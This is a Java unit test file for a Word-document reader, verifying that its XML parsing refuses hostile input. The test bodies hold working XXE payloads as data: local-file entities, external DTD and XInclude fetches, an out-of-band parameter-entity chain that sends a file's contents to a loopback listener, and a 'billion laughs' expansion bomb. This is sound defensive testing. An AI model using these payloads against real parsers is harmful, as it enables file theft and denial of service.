package io.github.gongkai.documents;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** XML that wants to read other files, to call home, or to grow without end. A listening socket and a file stand by. */
class XmlTest {

    private static final String CANARY = "本行不得被任何人读到";

    /** Every part of a document that is parsed. */
    private static final List<String> PARTS = List.of(
            "word/document.xml",
            "word/styles.xml",
            "word/numbering.xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels");

    private static byte[] with(String part, String xml) {
        return DocxFile.of(DocxFile.p("正文"))
                .styles("")
                .numbering("")
                .part(part, xml)
                .bytes();
    }

    private static String document(String type, String content) {
        return "<?xml version=\"1.0\"?>" + type + "<w:document xmlns:w=\"" + DocxFile.TRANSITIONAL
                + "\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><w:body><w:p><w:r><w:t>" + content
                + "</w:t></w:r></w:p></w:body></w:document>";
    }

    @Test
    void brokenBytesAreSaidInTheReadingAndNowhereElse() throws IOException {
        byte[] file = Fuzzed.written(Format.DOCX);
        byte[] part = Fuzzed.part(file, "word/document.xml");
        part[part.length / 2] = (byte) 0xFF;
        PrintStream before = System.err;
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        System.setErr(new PrintStream(printed, true, StandardCharsets.UTF_8));
        try {
            Reading reading = ReportReader.standard().read(Fuzzed.with(file, "word/document.xml", part), "a.docx");
            assertThat(reading.refusal().map(Remark::code)).contains(RemarkCode.DAMAGED_FILE);
        } finally {
            System.setErr(before);
        }
        assertThat(printed.toString(StandardCharsets.UTF_8)).isEmpty();
    }

    @Test
    void nothingIsFetchedAndNoOtherFileIsRead(@TempDir Path folder) throws IOException {
        Path canary = Files.writeString(folder.resolve("canary.txt"), CANARY);
        try (ServerSocket home = new ServerSocket(0, 10, InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + home.getLocalPort() + "/";
            List<String> attacks = List.of(
                    document("<!DOCTYPE a [<!ENTITY x SYSTEM \"" + canary.toUri() + "\">]>", "&x;"),
                    document("<!DOCTYPE a [<!ENTITY x SYSTEM \"" + url + "entity\">]>", "&x;"),
                    document("<!DOCTYPE a SYSTEM \"" + url + "type.dtd\">", "文"),
                    document("<!DOCTYPE a PUBLIC \"-//a//b\" \"" + url + "public.dtd\">", "文"),
                    document("<!DOCTYPE a [<!ENTITY % p SYSTEM \"" + url + "parameter\"> %p;]>", "文"),
                    document(
                            "<!DOCTYPE a [<!ENTITY % f SYSTEM \"" + canary.toUri()
                                    + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + url + "?%f;'>\"> %e; %s;]>",
                            "文"),
                    document("", "<xi:include href=\"" + canary.toUri() + "\" parse=\"text\"/>"),
                    document("", "<xi:include href=\"" + url + "include\"/>"),
                    document("<?xml-stylesheet href=\"" + url + "style.xsl\"?>", "文"),
                    "<w:document xmlns:w=\"" + url + "ns\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                            + " xsi:schemaLocation=\"" + url + "ns " + url + "schema.xsd\"/>");
            for (String part : PARTS) {
                for (String attack : attacks) {
                    assertThat(whatIsSeen(with(part, attack))).doesNotContain(CANARY);
                }
            }
            home.setSoTimeout(200);
            org.assertj.core.api.Assertions.assertThatThrownBy(home::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    private static String whatIsSeen(byte[] file) throws DocumentException {
        Content content = Docx.open(file, new Budget("a.docx", Limits.standard()));
        return content.blocks() + " " + content.remarks() + " " + content.refusal();
    }

    @Test
    void aDocumentTypeIsRefused() throws DocumentException {
        String laughs = "<!DOCTYPE a [<!ENTITY l0 \"ha\">"
                + java.util.stream.IntStream.range(0, 30)
                        .mapToObj(i -> "<!ENTITY l" + (i + 1) + " \"&l" + i + ";&l" + i + ";&l" + i + ";\">")
                        .reduce("", String::concat)
                + "]>";
        for (String part : PARTS) {
            Reading reading = ReportReader.standard().read(with(part, document(laughs, "&l30;")), "a.docx");
            assertThat(reading.refusal().orElseThrow().code()).isEqualTo(RemarkCode.DAMAGED_FILE);
        }
    }

    @Test
    void malformedXmlIsADamagedFile() throws DocumentException {
        String sound = document("", "文");
        for (String broken : List.of(
                "",
                "文",
                sound.substring(0, sound.length() - 5),
                sound.replace("</w:r>", ""),
                sound.replace("文", "&unknown;"),
                sound.replace("文", "&#0;"),
                sound.replace("文", "\u0001"),
                sound.replace("<w:p>", "<w:p w:a=\"1\" w:a=\"2\">"),
                sound.replace("<w:body>", "<x:body>"),
                sound + sound)) {
            assertThat(ReportReader.standard()
                            .read(with("word/document.xml", broken), "a.docx")
                            .refusal()
                            .orElseThrow()
                            .code())
                    .as(broken)
                    .isEqualTo(RemarkCode.DAMAGED_FILE);
        }
    }

    @Test
    void charactersAreReadHoweverTheyAreWritten() throws DocumentException {
        String xml = document("", "&#x516C;<![CDATA[开]]><!-- 无 -->报<?pi?>&amp;&lt;告");
        assertThat(whatIsSeen(with("word/document.xml", xml))).contains("公开报&<告");
        byte[] wide = xml.replace("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>")
                .getBytes(java.nio.charset.StandardCharsets.UTF_16);
        assertThat(whatIsSeen(DocxFile.of().part("word/document.xml", wide).bytes()))
                .contains("公开报&<告");
    }
}
